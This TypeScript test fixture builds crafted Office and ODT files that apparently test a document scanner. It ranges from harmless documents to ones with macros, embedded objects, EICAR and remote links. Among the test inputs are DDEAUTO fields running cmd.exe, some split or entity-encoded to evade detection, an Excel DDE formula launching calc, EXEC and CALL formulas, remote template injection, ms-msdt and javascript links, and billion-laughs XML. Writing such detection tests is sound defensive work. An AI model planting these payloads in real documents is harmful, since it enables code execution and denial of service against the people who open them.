import {
  contentTypes,
  docx,
  OFFICE,
  odt,
  odtContent,
  relation,
  relations,
  SHEET_TYPE,
  sheet,
  WORD_TYPE,
  wordDocument,
  xlsx,
} from './build-office.fixture.ts';
import { type Crafted, crafted, EICAR } from './crafted.fixture.ts';
import { openDocuments } from './open-documents.fixture.ts';

const OUTSIDE = ' TargetMode="External"';
const PART = 'word/_rels/document.xml.rels';

export function craftedOffices(): Crafted[] {
  return [...good(), ...active(), ...attached(), ...outside(), ...doubtful(), ...openDocuments()];
}

function linked(type: string, target: string, more = OUTSIDE): Buffer {
  return docx({ [PART]: relations(relation(type, target, more)) });
}

function field(instruction: string): Buffer {
  return docx({ 'word/document.xml': wordDocument(`<w:p><w:r><w:instrText>${instruction}</w:instrText></w:r></w:p>`) });
}

function formula(text: string): Buffer {
  return xlsx({ 'xl/worksheets/sheet1.xml': sheet(`<row><c><f>${text}</f></c></row>`) });
}

function good(): Crafted[] {
  return [
    crafted('DOCX: simple', docx(), 'docx'),
    crafted(
      'DOCX: with a picture',
      docx({ 'word/media/image1.png': Buffer.from('\x89PNG\r\n\x1a\n', 'latin1') }),
      'docx',
    ),
    crafted('DOCX: a link to the web', linked('hyperlink', 'https://dichvucong.gov.vn/?a=1&amp;b=2'), 'docx'),
    crafted('DOCX: a link to mail', linked('hyperlink', 'mailto:motcua@example.vn'), 'docx'),
    crafted('DOCX: a page number', field(' PAGE \\* MERGEFORMAT '), 'docx'),
    crafted('DOCX: a link that speaks of LINK and DDE', field(' HYPERLINK "https://x.example/link/dde" '), 'docx'),
    crafted(
      'DOCX: the word DDE in its text',
      docx({ 'word/document.xml': wordDocument('<w:t>DDE INCLUDETEXT</w:t>') }),
      'docx',
    ),
    crafted('XLSX: simple', xlsx(), 'xlsx'),
    crafted('XLSX: sums', formula('SUM(A1:A9)&amp;"|"'), 'xlsx'),
    crafted(
      'XLSX: settings of a printer',
      xlsx({ 'xl/printerSettings/printerSettings1.bin': Buffer.alloc(99, 7) }),
      'xlsx',
    ),
    crafted('XLSX: 20,000 rows', xlsx({ 'xl/worksheets/sheet1.xml': sheet(rows(20_000)) }), 'xlsx'),
    crafted('ODT: simple', odt(), 'odt'),
    crafted(
      'ODT: with empty settings, as LibreOffice writes',
      odt({ 'Configurations2/accelerator/current.xml': '' }),
      'odt',
    ),
    crafted(
      'ODT: a link to the web',
      odt({ 'content.xml': odtContent('<text:a xlink:href="https://x.example"/>') }),
      'odt',
    ),
    crafted(
      'ODT: a picture of its own',
      odt({ 'content.xml': odtContent('<draw:image xlink:href="Pictures/1.png"/>') }),
      'odt',
    ),
  ];
}

function rows(count: number): string {
  return Array.from({ length: count }, (_, i) => `<row><c><v>${i * 7919}</v></c><c><f>A${i}+1</f></c></row>`).join('');
}

function active(): Crafted[] {
  const typed = (type: string) => contentTypes([...WORD_TYPE], ['/word/x.bin', type]);
  const macro = 'application/vnd.ms-word.document.macroEnabled.main+xml';
  return [
    crafted('DOCM', docx({ '[Content_Types].xml': contentTypes(['/word/document.xml', macro]) }), 'active-content'),
    crafted(
      'DOCM with an encoded type',
      docx({
        '[Content_Types].xml': contentTypes([
          '/word/document.xml',
          macro.replace('m', '&#109;').replace('macroE', 'macro&#x45;'),
        ]),
      }),
      'active-content',
    ),
    crafted(
      'XLSM',
      xlsx({
        '[Content_Types].xml': contentTypes([
          '/xl/workbook.xml',
          'application/vnd.ms-excel.sheet.macroEnabled.main+xml',
        ]),
      }),
      'active-content',
    ),
    crafted('DOCX: macros by name', docx({ 'word/vbaProject.bin': 'x' }), 'active-content'),
    crafted('DOCX: macros by name in other letters', docx({ 'WORD/VBAPROJECT.BIN': 'x' }), 'active-content'),
    crafted(
      'DOCX: macros by type',
      docx({ '[Content_Types].xml': typed('application/vnd.ms-office.vbaProject') }),
      'active-content',
    ),
    crafted('DOCX: macros by relation', linked('vbaProject', 'x.bin', ''), 'active-content'),
    crafted('DOCX: ActiveX by name', docx({ 'word/activeX/activeX1.xml': '<a/>' }), 'active-content'),
    crafted(
      'DOCX: ActiveX by type',
      docx({ '[Content_Types].xml': typed('application/vnd.ms-office.activeX+xml') }),
      'active-content',
    ),
    crafted('DOCX: ActiveX by relation', linked('control', 'a.xml', ''), 'active-content'),
    crafted('DOCX: its own buttons', docx({ 'customUI/customUI.xml': '<a/>' }), 'active-content'),
    crafted('XLSX: old macro sheet', xlsx({ 'xl/macrosheets/sheet1.xml': '<a/>' }), 'active-content'),
    crafted('XLSX: old dialog sheet', xlsx({ 'xl/dialogsheets/sheet1.xml': '<a/>' }), 'active-content'),
    crafted('DOCX: a program as picture', docx({ 'word/media/image1.png': 'MZ\x90' }), 'active-content'),
    crafted('DOCX: a script as part', docx({ 'word/media/a.png': '#!/bin/sh\n' }), 'active-content'),
  ];
}

function attached(): Crafted[] {
  const ole = Buffer.from('d0cf11e0a1b11ae1', 'hex');
  const typed = (type: string) => contentTypes([...WORD_TYPE], ['/word/x.bin', type]);
  return [
    crafted('DOCX: an object by name', docx({ 'word/embeddings/oleObject1.bin': 'x' }), 'attachments'),
    crafted(
      'DOCX: an object by type',
      docx({ '[Content_Types].xml': typed('application/vnd.openxmlformats-officedocument.oleObject') }),
      'attachments',
    ),
    crafted('DOCX: an object by relation', linked('oleObject', 'a.bin', ''), 'attachments'),
    crafted('DOCX: an object by its bytes', docx({ 'word/media/image1.png': ole }), 'attachments'),
    crafted('DOCX: a document by relation', linked('package', 'a.xlsx', ''), 'attachments'),
    crafted('DOCX: a document within', docx({ 'word/media/a.dat': xlsx() }), 'attachments'),
    crafted('DOCX: an archive within', docx({ 'word/media/a.dat': 'Rar!\x1a\x07' }), 'attachments'),
    crafted('DOCX: packed data within', docx({ 'word/media/a.dat': Buffer.from([0x1f, 0x8b, 8]) }), 'attachments'),
    crafted('DOCX: a PDF within', docx({ 'word/media/a.dat': '%PDF-1.7' }), 'attachments'),
    crafted('DOCX: a web page within', docx({ 'word/a.html': '<html/>' }), 'attachments'),
    crafted('DOCX: text from elsewhere within', linked('aFChunk', 'a.xml', ''), 'attachments'),
    crafted('DOCX: the test virus within', docx({ 'word/media/image1.png': EICAR }), 'virus'),
  ];
}

function outside(): Crafted[] {
  const cut = '<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\cmd.exe</w:instrText></w:r>';
  return [
    crafted('DOCX: a template elsewhere', linked('attachedTemplate', 'http://x.example/a.dotm'), 'outside-links'),
    crafted('DOCX: a template on a share', linked('attachedTemplate', 'file://x.example/a.dotm'), 'outside-links'),
    crafted('DOCX: a picture elsewhere', linked('image', 'http://x.example/a.png'), 'outside-links'),
    crafted('DOCX: an object elsewhere', linked('frame', 'http://x.example/a'), 'outside-links'),
    crafted(
      'DOCX: outside by an encoded word',
      linked('image', 'a.png', ' TargetMode="&#69;xternal"'),
      'outside-links',
    ),
    crafted('DOCX: outside without saying so', linked('image', 'http://x.example/a.png', ''), 'outside-links'),
    crafted('DOCX: a share without saying so', linked('image', '\\\\x\\a.png', ''), 'outside-links'),
    crafted(
      'DOCX: two targets, one with a prefix',
      linked('image', 'http://x/a', ' xmlns:x="y" x:Target="a.png"'),
      'outside-links',
    ),
    crafted('DOCX: a link to a file', linked('hyperlink', 'file:///c:/windows/calc.exe'), 'outside-links'),
    crafted('DOCX: a link to javascript', linked('hyperlink', 'javascript:alert(1)'), 'outside-links'),
    crafted('DOCX: a link to a handler', linked('hyperlink', 'ms-msdt:/id'), 'outside-links'),
    crafted(
      'DOCX: outside for the whole',
      docx({ '_rels/.rels': relations(relation('officeDocument', 'http://x/a', OUTSIDE)) }),
      'outside-links',
    ),
    crafted('DOCX: DDE', field(' DDEAUTO c:\\\\cmd.exe '), 'outside-links'),
    crafted('DOCX: dde in small letters', field('dde x y'), 'outside-links'),
    crafted('DOCX: DDE cut in two', docx({ 'word/document.xml': wordDocument(`<w:p>${cut}</w:p>`) }), 'outside-links'),
    crafted('DOCX: DDE by encoded letters', field('&#68;DE x y'), 'outside-links'),
    crafted(
      'DOCX: DDE in a simple field',
      docx({ 'word/document.xml': wordDocument('<w:fldSimple w:instr="DDE x y"/>') }),
      'outside-links',
    ),
    crafted(
      'DOCX: DDE in a heading',
      docx({ 'word/header1.xml': wordDocument('<w:instrText>DDE x</w:instrText>') }),
      'outside-links',
    ),
    crafted(
      'DOCX: DDE under another prefix',
      docx({ 'word/document.xml': '<q:d xmlns:q="u"><q:instrText>DDE x</q:instrText></q:d>' }),
      'outside-links',
    ),
    crafted('DOCX: DDE spelt by numbers', field(' QUOTE 68 68 69 '), 'outside-links'),
    crafted('DOCX: text fetched', field('INCLUDETEXT "http://x/a"'), 'outside-links'),
    crafted('DOCX: a picture fetched', field('INCLUDEPICTURE "http://x/a"'), 'outside-links'),
    crafted('DOCX: a button for a macro', field('MACROBUTTON a b'), 'outside-links'),
    crafted('XLSX: DDE', formula("cmd|' /C calc'!A0"), 'outside-links'),
    crafted('XLSX: a web service', formula('WEBSERVICE("http://x")'), 'outside-links'),
    crafted('XLSX: CALL', formula('CALL("Kernel32")'), 'outside-links'),
    crafted('XLSX: REGISTER.ID', formula('REGISTER.ID("a")'), 'outside-links'),
    crafted(
      'XLSX: a name that runs',
      xlsx({ 'xl/workbook.xml': '<w><definedName name="a">EXEC("calc")</definedName></w>' }),
      'outside-links',
    ),
    crafted('XLSX: links to other books', xlsx({ 'xl/externalLinks/externalLink1.xml': '<a/>' }), 'outside-links'),
    crafted('XLSX: connections', xlsx({ 'xl/connections.xml': '<a/>' }), 'outside-links'),
    crafted('XLSX: a table of questions', xlsx({ 'xl/queryTables/queryTable1.xml': '<a/>' }), 'outside-links'),
  ];
}

function doubtful(): Crafted[] {
  const entity = '<!DOCTYPE a [<!ENTITY b "x">]><a>&b;</a>';
  const laughs = `<!DOCTYPE a [<!ENTITY a0 "ha">${Array.from({ length: 9 }, (_, i) => `<!ENTITY a${i + 1} "${`&a${i};`.repeat(10)}">`).join('')}]><a>&a9;</a>`;
  const utf16 = Buffer.from(`\ufeff${wordDocument('')}`, 'utf16le');
  const powerpoint = 'application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml';
  return [
    crafted('DOCX: a document type', docx({ 'word/document.xml': entity }), 'unsafe-inside'),
    crafted('DOCX: a billion laughs', docx({ 'word/document.xml': laughs }), 'unsafe-inside'),
    crafted('DOCX: a document type in relations', docx({ [PART]: entity }), 'unsafe-inside'),
    crafted('DOCX: UTF-16', docx({ 'word/document.xml': utf16 }), 'unsafe-inside'),
    crafted(
      'DOCX: says UTF-7',
      docx({ 'word/document.xml': '<?xml version="1.0" encoding="UTF-7"?><a/>' }),
      'unsafe-inside',
    ),
    crafted(
      'DOCX: relations say EBCDIC',
      docx({ [PART]: '<?xml version="1.0" encoding="IBM037"?><a/>' }),
      'unsafe-inside',
    ),
    crafted('DOCX: not UTF-8', docx({ [PART]: Buffer.from('<a>\xff\xfe</a>', 'latin1') }), 'unsafe-inside'),
    crafted('DOCX: relations not well-formed', docx({ [PART]: '<a><b></a>' }), 'damaged'),
    crafted('DOCX: types not well-formed', docx({ '[Content_Types].xml': '<a' }), 'damaged'),
    crafted('DOCX: no main part', docx({ '[Content_Types].xml': contentTypes() }), 'not-accepted'),
    crafted(
      'DOCX: two main parts',
      docx({ '[Content_Types].xml': contentTypes([...WORD_TYPE], [...SHEET_TYPE]) }),
      'not-accepted',
    ),
    crafted(
      'DOCX: main part missing',
      docx({ '[Content_Types].xml': contentTypes(['/word/other.xml', WORD_TYPE[1]]) }),
      'damaged',
    ),
    crafted('PPTX', docx({ '[Content_Types].xml': contentTypes(['/word/document.xml', powerpoint]) }), 'not-accepted'),
    crafted(
      'DOCX: outside relation of another name space',
      docx({
        [PART]: `<x:Relationships xmlns:x="u"><x:Relationship Type="${OFFICE}/image" Target="http://x"/></x:Relationships>`,
      }),
      'outside-links',
    ),
  ];
}
